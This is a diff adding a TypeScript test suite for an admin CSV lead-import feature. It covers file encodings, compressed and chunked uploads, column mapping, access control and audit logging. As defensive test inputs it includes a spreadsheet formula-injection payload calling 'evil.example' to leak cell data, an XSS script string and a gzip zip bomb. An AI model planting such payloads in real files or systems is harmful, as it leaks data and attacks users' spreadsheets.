@@ -1,0 +1,244 @@
+/** What files may be, and what is said of those that cannot be taken. */
+import { gzipSync } from 'node:zlib'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { LEAD_FILE_PART_BYTES } from '#contract/lead-files.ts'
+import { aBuyer, anAdmin, aRep } from '#testing/builders.ts'
+import { LeadFiles, leadFile } from '#testing/lead-files.ts'
+import { createTestApp, type TestApp } from '#testing/test-app.ts'
+
+let store: TestApp
+let files: LeadFiles
+beforeAll(async () => {
+  store = await createTestApp()
+  files = new LeadFiles(store, await anAdmin(store))
+})
+afterAll(() => store.close())
+
+const ROW = { address: '12 Main St' }
+
+describe('a file', () => {
+  test.each([
+    ['as it is', (text: string) => Buffer.from(text)],
+    ['compressed', (text: string) => gzipSync(text)],
+    ['with Windows line ends', (text: string) => Buffer.from(text.replaceAll('\n', '\r\n'))],
+    ['with a byte order mark', (text: string) => Buffer.from(`\uFEFF${text}`)],
+    ['with empty lines at its end', (text: string) => Buffer.from(`${text}\n,,,,,,,\n\r\n`)],
+  ])('is read %s, and shows its columns', async (_, make) => {
+    const importId = await files.send(make(leadFile(files, [ROW])))
+    const opened = await files.open(importId)
+
+    expect(opened.body).toMatchObject({
+      import: { state: 'mapping' },
+      columns: expect.arrayContaining([{ name: 'Address', examples: ['12 Main St'] }]),
+      mapping: { address: { column: 'Address' }, fips: { column: 'FIPS' }, phone1: { column: 'Phone' } },
+    })
+    expect(await files.check(importId, opened.body.mapping)).toMatchObject({ state: 'ready', preview: { newLeads: 1 } })
+  })
+
+  test.each([
+    ['nothing', '', 'The file is empty.'],
+    ['one column', 'name\nJane\n', 'must be a header'],
+    ['semicolons', 'Address;City;Zip\n12 Main St;Austin;78701\n', 'separated by something else than commas'],
+    ['a quote that is never closed', 'Address,City,Zip\n"12 Main St,Austin,78701\n', 'never closed'],
+    ['UTF-16', Buffer.from('\uFEFFAddress,City,Zip\n', 'utf16le'), 'UTF-16'],
+    [
+      'Windows letters in its first rows',
+      Buffer.from('Address,City,Zip\n12 Main St,Pe\xf1a,78701\n', 'latin1'),
+      'not text in UTF-8',
+    ],
+    ['a workbook', Buffer.from('PK\x03\x04 and so on'), 'This is a workbook'],
+    ['a damaged archive', gzipSync('Address,City,Zip\n').subarray(0, 20), 'cannot be unpacked'],
+    ['one endless cell', `Address,City,${'x'.repeat(20_000)}`, 'longer than 10,000 characters'],
+  ])('with %s is refused when it is opened, in words that the import keeps', async (_, file, message) => {
+    const importId = await files.send(file)
+    const opened = await files.open(importId)
+
+    expect(opened).toMatchObject({ status: 400, body: { code: 'lead_file_refused' } })
+    expect(opened.body.message).toContain(message)
+    expect(await files.read(importId)).toMatchObject({ state: 'refused', problem: opened.body.message })
+  })
+
+  test.each([
+    [
+      'Windows letters further down',
+      (text: string) => Buffer.concat([Buffer.from(text.repeat(1_500)), Buffer.from('Pe\xf1a,,,,,,,\n', 'latin1')]),
+      'not text in UTF-8',
+    ],
+    [
+      'a zip bomb in it',
+      (text: string) => gzipSync(text + ',,,,,,,\n'.repeat(4_000_000)),
+      'more than 100 times larger',
+    ],
+    ['a header and no rows', (text: string) => Buffer.from(text.split('\n')[0] ?? ''), 'a header and no rows'],
+  ])('with %s is refused by its dry run, and leaves nothing behind', async (_, make, message) => {
+    const before = await files.fingerprint()
+    const checked = await files.bring(make(leadFile(files, [ROW, { address: '14 Main St' }])))
+
+    expect(checked.state).toBe('refused')
+    expect(checked.problem).toContain(message)
+    expect((await files.apply(checked.id)).code).toBe('lead_import_not_ready')
+    expect(await files.fingerprint()).toEqual(before)
+    expect(await files.partitions()).not.toContain(checked.id)
+  })
+
+  test('waits for all of its parts, and takes each of them again', async () => {
+    const bytes = Buffer.from(
+      leadFile(
+        files,
+        Array.from({ length: 40_000 }, (_, index) => ({ address: `${index + 1} Main St` })),
+      ),
+    )
+    expect(bytes.length).toBeGreaterThan(LEAD_FILE_PART_BYTES)
+    const importId = await files.announce(bytes.length)
+    await files.sendPart(importId, 1, bytes.subarray(LEAD_FILE_PART_BYTES))
+    expect((await files.open(importId)).body).toMatchObject({ code: 'lead_import_not_ready' })
+    await files.sendPart(importId, 0, Buffer.alloc(LEAD_FILE_PART_BYTES, 'x'))
+    const again = await files.sendPart(importId, 0, bytes.subarray(0, LEAD_FILE_PART_BYTES))
+
+    expect(again.body).toEqual({ bytesReceived: bytes.length })
+    const opened = await files.open(importId)
+    expect(opened.status).toBe(200)
+    expect((await files.sendPart(importId, 2, Buffer.from('x'))).body.code).toBe('lead_import_not_ready')
+    expect((await files.check(importId, opened.body.mapping)).preview.newLeads).toBe(40_000)
+  })
+
+  test('comes in parts that are not larger than they may be', async () => {
+    const importId = await files.announce(10 * 2 ** 20)
+    const tooLarge = await files.sendPart(importId, 0, Buffer.alloc(10 * 2 ** 20, 'a,b,c\n'))
+
+    expect(tooLarge).toMatchObject({ status: 413, body: { code: 'body_too_large' } })
+    expect((await files.sendPart(importId, 256, Buffer.from('x'))).status).toBe(400)
+    expect((await files.read(importId)).bytesReceived).toBe(0)
+  })
+})
+
+describe('a mapping', () => {
+  test.each([
+    ['a field that is needed', { city: { column: 'City' } }, 'Choose the column for “Property address”.'],
+    ['a column that is not there', { address: { column: 'Street' } }, 'no column “Street”'],
+  ])('is refused that lacks or names %s', async (_, wrong, message) => {
+    const importId = await files.send(leadFile(files, [ROW]))
+    const { mapping } = (await files.open(importId)).body
+    const { address: _address, ...rest } = mapping
+
+    expect(await files.check(importId, { ...rest, ...wrong })).toMatchObject({
+      code: 'lead_mapping_invalid',
+      message: expect.stringContaining(message),
+    })
+  })
+
+  test('is remembered for its source, as far as the columns are there', async () => {
+    const file = leadFile(files, [{ address: '1 Remembered St' }]).replace('Address,', 'Where it is,')
+    const importId = await files.send(file, 'Remembered Records')
+    const first = await files.open(importId)
+    expect(first.body.mapping.address).toBeUndefined()
+    await files.check(importId, { ...first.body.mapping, address: { column: 'Where it is' } })
+
+    const again = await files.open(await files.send(file, 'Remembered Records'))
+    const other = await files.open(await files.send(file, 'Other Records'))
+
+    expect(again.body).toMatchObject({ isRemembered: true, mapping: { address: { column: 'Where it is' } } })
+    expect(other.body).toMatchObject({ isRemembered: false })
+    expect((await files.admin.call('GET', '/api/admin/lead-sources')).body).toContain('Remembered Records')
+  })
+
+  test('can be changed until the file is applied; the last one counts', async () => {
+    const importId = await files.send(leadFile(files, [{ address: '1 Changed St', type: 'castle' }]))
+    const { mapping } = (await files.open(importId)).body
+    expect(await files.check(importId, mapping)).toMatchObject({
+      state: 'refused',
+      refusedRows: 1,
+      preview: { newLeads: 0, refused: { lead_type_unknown: 1 } },
+    })
+
+    const checked = await files.check(importId, { ...mapping, leadType: { fixed: 'owner' } })
+
+    expect(checked).toMatchObject({ state: 'ready', refusedRows: 0, preview: { newLeads: 1, refused: {} } })
+  })
+})
+
+describe('hostile cells', () => {
+  test('are told in a report that no spreadsheet calculates, and nowhere else', async () => {
+    const formula = '=HYPERLINK(""http://evil.example/?""&A1,""x"")'
+    const checked = await files.bring(
+      `${leadFile(files, [{ address: '1 Hostile St' }])}"${formula}",Austin,78701,48453,vacant,2099-01-01,@evil,\n+1,2\n`,
+    )
+    const report = await files.admin.call('GET', `/api/admin/lead-imports/${checked.id}/refused.csv`)
+
+    expect(checked).toMatchObject({ state: 'ready', refusedRows: 2, preview: { refused: { formula: 1, cells: 1 } } })
+    const [header, first, second] = report.body.split('\r\n')
+    expect(header).toBe('row,reason,line')
+    expect(first).toContain(`3,"This row has a cell that begins like a formula (=, +, - or @).","'=HYPERLINK(`)
+    expect(second).toContain('4,This row has more or fewer cells than the header has columns.')
+    expect(second).toContain("'+1")
+    expect(report.headers['content-disposition']).toMatch(/^attachment; filename="refused-rows-lim_\w+\.csv"$/)
+  })
+
+  test('are kept as they are where they are harmless, and shown so', async () => {
+    const owner = '<script>alert(1)</script> \\N {a,b} "x"'
+    const checked = await files.bring(leadFile(files, [{ address: '2 Hostile St', owner }]), {
+      source: 'O’Hare, "Best" \\ Records',
+    })
+    const preview = await files.admin.call('POST', `/api/admin/lead-imports/${checked.id}/preview`)
+
+    expect(preview.body).toMatchObject([
+      {
+        ownerNames: [owner],
+        address: '2 Hostile St',
+        county: 'Travis',
+        source: 'O’Hare, "Best" \\ Records',
+        verdict: 'new',
+      },
+    ])
+  })
+})
+
+describe('who is no administrator', () => {
+  test('gets nothing of imports', async () => {
+    const { id, mapping } = await files.bring(leadFile(files, [{ address: '1 Secret St' }]))
+    const rep = await aRep(store)
+    for (const [client, status] of [
+      [rep, 403],
+      [aBuyer(store), 401],
+    ] as const) {
+      const sendPart = await store.app.server.inject({
+        method: 'PUT',
+        url: `/api/admin/lead-imports/${id}/parts/0`,
+        payload: 'x',
+        headers: { 'content-type': 'application/octet-stream', cookie: client.cookie },
+      })
+      expect(sendPart.statusCode).toBe(status)
+      const asked = [
+        await client.call('POST', '/api/admin/lead-imports', { source: 'x', fileName: 'a.csv', fileBytes: 1 }),
+        await client.call('GET', '/api/admin/lead-imports'),
+        await client.call('GET', '/api/admin/lead-sources'),
+        await client.call('GET', `/api/admin/lead-imports/${id}`),
+        await client.call('POST', `/api/admin/lead-imports/${id}/open`),
+        await client.call('POST', `/api/admin/lead-imports/${id}/check`, { mapping }),
+        await client.call('POST', `/api/admin/lead-imports/${id}/preview`),
+        await client.call('POST', `/api/admin/lead-imports/${id}/apply`),
+        await client.call('POST', `/api/admin/lead-imports/${id}/undo`),
+        await client.call('GET', `/api/admin/lead-imports/${id}/refused.csv`),
+      ]
+      expect(asked.map((reply) => reply.status)).toEqual(asked.map(() => status))
+      expect(JSON.stringify(asked.map(({ body }) => body))).not.toContain('Secret')
+    }
+    expect((await files.read(id)).state).toBe('ready')
+  })
+
+  test('cannot look at rows unseen: each look of an administrator is written down', async () => {
+    const checked = await files.bring(leadFile(files, [{ address: '1 Watched St' }]), { source: 'Watched' })
+    await files.admin.call('POST', `/api/admin/lead-imports/${checked.id}/preview`)
+    await files.admin.call('GET', `/api/admin/lead-imports/${checked.id}/refused.csv`)
+    const entries = (await files.admin.call('GET', '/api/admin/audit?action=lead_rows_seen&limit=3')).body
+
+    expect(entries.map(({ after }: { after: { what: string; source: string } }) => [after.source, after.what])).toEqual(
+      [
+        ['Watched', 'the refused rows'],
+        ['Watched', 'the first rows'],
+        ['Watched', 'examples of each column'],
+      ],
+    )
+    expect(JSON.stringify(entries)).not.toContain('Watched St')
+  })
+})
